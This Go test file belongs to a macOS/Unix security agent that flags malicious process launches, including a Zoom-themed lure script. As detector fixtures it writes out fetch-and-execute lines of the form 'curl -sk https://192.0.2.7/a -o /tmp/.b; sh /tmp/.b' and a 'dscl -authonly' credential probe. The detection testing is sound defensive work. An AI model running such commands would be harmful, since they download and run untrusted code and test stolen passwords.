//go:build unix

package agent

import (
	"context"
	"log/slog"
	"path/filepath"
	"testing"
	"time"

	"meetguard"
	"meetguard/internal/alert"
)

// started is a launch of a program that is not on this machine: it is judged
// by what it was given to do.
func started(pid, ppid int, args ...string) meetguard.Event {
	now := time.Now()
	return meetguard.Event{Time: now, Kind: meetguard.ProcessStarted, Path: args[0],
		Process: &meetguard.Process{OS: systemName, PID: pid, PPID: ppid, Exe: args[0], Args: args, Started: now}}
}

const absent = "/nonexistent/bin/"

func TestArgumentOfALaunchIsInspected(t *testing.T) {
	in := inspector(t, workerArg)
	dir := t.TempDir()
	lure := put(t, filepath.Join(dir, "Zoom SDK Update.scpt"), lureText())
	plain := put(t, filepath.Join(dir, "hello.sh"), []byte("echo hello\n"))
	for _, tc := range []struct {
		args  []string
		level meetguard.Level
		count int
	}{
		{[]string{absent + "osascript", lure}, meetguard.Malicious, 1},
		{[]string{absent + "sh", "-e", plain}, meetguard.Clean, 1},
		{[]string{absent + "sh", filepath.Join(dir, "gone.sh")}, meetguard.Clean, 0},
		{[]string{absent + "cat", lure}, meetguard.Clean, 0},
	} {
		f := in.Launch(context.Background(), started(100, 1, tc.args...).Process)
		if n := countArguments(&f); n != tc.count {
			t.Errorf("%q: %d arguments inspected, want %d", tc.args, n, tc.count)
		}
		f.Gaps = nil // that the interpreter is not here
		if v := in.Judge(f); v.Level != tc.level {
			t.Errorf("%q: %s by %v, want %s", tc.args, v.Level, v.Findings, tc.level)
		}
	}
}

// launchAgent is an agent without sources.
func launchAgent(t *testing.T) *Agent {
	t.Helper()
	log := slog.New(slog.DiscardHandler)
	alerts, err := alert.Open(t.TempDir(), alert.Options{MaxTotal: 1 << 20, Standalone: true, Logger: log})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { alerts.Close() })
	return &Agent{log: log, insp: inspector(t, workerArg), second: newSecond(), alerts: alerts, chains: newChains()}
}

func TestOneAlertOfAChain(t *testing.T) {
	a := launchAgent(t)
	for i, step := range []struct {
		ev             meetguard.Event
		alerts, folded uint64
	}{
		{started(200, 1, absent+"sh", "/tmp/.sync.sh"), 1, 0},                                                         // a hidden file: suspicious
		{started(201, 200, absent+"dscl", ".", "-authonly", "ana", "x"), 2, 0},                                        // with what led to it, malicious: told again
		{started(202, 200, absent+"sh", "-c", "curl -sk https://192.0.2.7/a -o /tmp/.b; sh /tmp/.b"), 2, 1},           // no worse: counted
		{started(203, 200, absent+"sh", "-c", "curl -sk https://192.0.2.7/c -o /tmp/.c; sh /tmp/.c"), 2, 2},           // counted
		{started(300, 1, absent+"git", "status"), 2, 2},                                                               // nobody's business
		{started(400, 1, absent+"sh", "-c", "curl -sk https://192.0.2.9/other -o /tmp/.other; sh /tmp/.other"), 3, 2}, // another chain
	} {
		if err := a.judgeLaunch(context.Background(), step.ev); err != nil {
			t.Fatal(err)
		}
		if n, m := a.counts.alerts.Load(), a.counts.folded.Load(); n != step.alerts || m != step.folded {
			t.Errorf("after launch %d: %d alerts and %d folded, want %d and %d", i, n, m, step.alerts, step.folded)
		}
	}
	if n := a.counts.known.Load(); n != 0 {
		t.Errorf("%d alerts taken for repetitions", n)
	}
}

func TestLandingIsTold(t *testing.T) {
	c := newChains()
	now := time.Now()
	c.landed("/home/ana/Downloads/fix.sh", now.Add(-time.Minute), "files.invalid")
	f := meetguard.Facts{Path: "/bin/sh", Members: []meetguard.Facts{{Path: "/home/ana/Downloads/fix.sh", Role: roleArgument}}}
	if l := c.landing(&f, now); l == nil || l.Host != "files.invalid" {
		t.Errorf("of the script that runs: %v", l)
	}
	if l := c.landing(&f, now.Add(landedSpan)); l != nil {
		t.Errorf("long after: %v", l)
	}
	if l := c.landing(&meetguard.Facts{Path: "/bin/sh"}, now); l != nil {
		t.Errorf("of another program: %v", l)
	}
}
